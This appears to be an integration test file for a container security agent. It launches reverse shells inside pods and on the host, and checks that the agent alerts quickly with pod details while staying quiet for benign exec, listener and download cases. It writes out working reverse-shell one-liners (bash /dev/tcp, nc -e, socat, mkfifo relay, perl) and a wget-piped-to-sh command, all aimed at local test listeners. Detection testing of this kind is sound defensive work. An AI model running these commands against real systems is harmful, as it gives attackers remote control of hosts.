import { execFileSync, spawn } from 'node:child_process';
import { createServer } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { integrationUnavailable } from './docker-env.js';
import { startAgent, type AgentHandle, type JsonAlert } from './harness/agent.js';
import { listen, type Listener } from './harness/listener.js';
import { bridgeGateway, removeAllPods, runPod, type Pod } from './harness/pods.js';

const TOOLS = 'vigil-test/tools:latest';
const unavailable = integrationUnavailable();

/** The reverse-shell families, each as the one-liner an attacker types, run inside a pod. */
function families(host: string, port: number): Record<string, { command: string[]; process: string }> {
  const perl =
    `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${port},inet_aton("${host}")));` +
    'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");';
  return {
    'bash /dev/tcp': { command: ['bash', '-c', `bash -i >& /dev/tcp/${host}/${port} 0>&1`], process: 'bash' },
    'nc -e': { command: ['nc', host, String(port), '-e', '/bin/sh'], process: 'sh' },
    'ncat -e': { command: ['ncat', host, String(port), '-e', '/bin/sh'], process: 'sh' },
    'named-pipe relay': {
      command: ['sh', '-c', `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${host} ${port} > /tmp/f`],
      process: 'sh',
    },
    'socat exec pty': { command: ['socat', `TCP:${host}:${port}`, 'EXEC:/bin/sh,pty,stderr,setsid'], process: 'sh' },
    'perl dup2 + sh': { command: ['perl', '-e', perl], process: 'sh' },
  };
}

const isReverseShell = (pod: Pod) => (a: JsonAlert) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === pod.pod;

describe.skipIf(unavailable)('reverse shells in pods', () => {
  let agent: AgentHandle;
  let gateway: string;
  const listeners: Listener[] = [];

  beforeAll(async () => {
    gateway = bridgeGateway();
    agent = await startAgent(['--scan-interval-ms', '1000']);
  });
  afterEach(async () => {
    removeAllPods();
    for (const l of listeners.splice(0)) await l.close();
  });
  afterAll(async () => {
    removeAllPods();
    expect(await agent?.stop()).toBe(0);
  });

  /** Runs `body`, then waits long enough for a would-be alert and asserts none came for the pod. */
  async function expectQuiet(pod: Pod, settleMs = 3_000): Promise<void> {
    await new Promise((r) => setTimeout(r, settleMs));
    expect(agent.alerts.filter(isReverseShell(pod))).toEqual([]);
  }

  it('stays quiet for `docker exec -it` shells (kubectl exec)', async () => {
    const pod = runPod({ namespace: 'shop', pod: 'exec-target', container: 'app', image: TOOLS, command: ['sleep', '600'] });
    // `script` gives docker exec the terminal that -it needs, as an operator's shell has.
    // The shell must outlive its first command: busybox sh execs a last command in place.
    execFileSync('script', ['-qec', `docker exec -it ${pod.id} sh -c 'sleep 3; echo done'`, '/dev/null'], { stdio: 'ignore' });
    await expectQuiet(pod, 1_000);
    // The shell with a terminal is what the terminal-shell rule is for.
    await agent.waitForAlert((a) => a.rule === 'Terminal Shell in Container' && a.output_fields['k8s.pod.name'] === pod.pod, 5_000);
  });

  it('stays quiet for a listener that serves data', async () => {
    const pod = runPod({
      namespace: 'shop',
      pod: 'serves-data',
      container: 'app',
      image: TOOLS,
      command: ['sh', '-c', 'while true; do nc -l -p 8080 < /etc/passwd; done'],
    });
    const ip = pod.ip();
    for (let i = 0; i < 3; i++) {
      await new Promise((r) => setTimeout(r, 500));
      try {
        execFileSync('ncat', ['--recv-only', '-w', '2', ip, '8080'], { stdio: 'ignore', timeout: 5_000 });
      } catch {
        // the listener may be between two connections
      }
    }
    await expectQuiet(pod);
  });

  it('stays quiet for a download piped into a shell and into a local tool', async () => {
    const server = createServer((_req, res) => res.end('echo downloaded; sleep 3\n'));
    await new Promise<void>((r) => server.listen(0, gateway, () => r()));
    const port = (server.address() as { port: number }).port;
    try {
      const pod = runPod({
        namespace: 'shop',
        pod: 'downloads',
        container: 'app',
        image: TOOLS,
        command: ['sh', '-c', `wget -qO- http://${gateway}:${port}/install.sh | sh; wget -qO- http://${gateway}:${port}/x | md5sum; sleep 5`],
      });
      await expectQuiet(pod, 5_000);
    } finally {
      server.close();
    }
  });

  it('bash /dev/tcp on the host itself: alerts with container.id host', async () => {
    const listener = await listen('127.0.0.1');
    listeners.push(listener);
    const shell = spawn('bash', ['-c', `exec bash -i >& /dev/tcp/127.0.0.1/${listener.port} 0>&1`], { stdio: 'ignore' });
    try {
      const connection = await listener.waitForConnection(15_000);
      const alert = await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['fd.rport'] === listener.port, 10_000);
      console.log(`[reverse-shell] host bash /dev/tcp: alert ${alert.receivedMs - connection.atMs} ms after the connection`);
      // The shell, or a child it started (bash -i runs ~/.bashrc) with the same stdio, whichever is seen first.
      expect(alert.output_fields).toMatchObject({ 'container.id': 'host', 'proc.name': 'bash' });
    } finally {
      shell.kill('SIGKILL');
    }
  });

  for (const family of Object.keys(families('0.0.0.0', 1))) {
    it(`${family}: alerts within 2 s with namespace, pod, container and process`, async () => {
      const listener = await listen(gateway);
      listeners.push(listener);
      const spec = families(gateway, listener.port)[family]!;
      const pod = runPod({
        namespace: 'shop',
        pod: `web-${family.replace(/[^a-z]/g, '')}`.slice(0, 40),
        container: 'app',
        image: TOOLS,
        command: spec.command,
        labels: { app: 'web' },
      });
      const connection = await listener.waitForConnection(15_000);
      const alert = await agent.waitForAlert(isReverseShell(pod), 10_000);
      const latencyMs = alert.receivedMs - connection.atMs;
      console.log(`[reverse-shell] ${family}: alert ${latencyMs} ms after the connection`);
      expect(alert.priority).toBe('Critical');
      expect(alert.output_fields).toMatchObject({
        'k8s.ns.name': 'shop',
        'k8s.pod.name': pod.pod,
        'k8s.container.name': 'app',
        'container.id': pod.id.slice(0, 12),
        'proc.name': spec.process,
        'fd.rport': listener.port,
      });
      expect(latencyMs).toBeLessThanOrEqual(2_000);
    });
  }
});
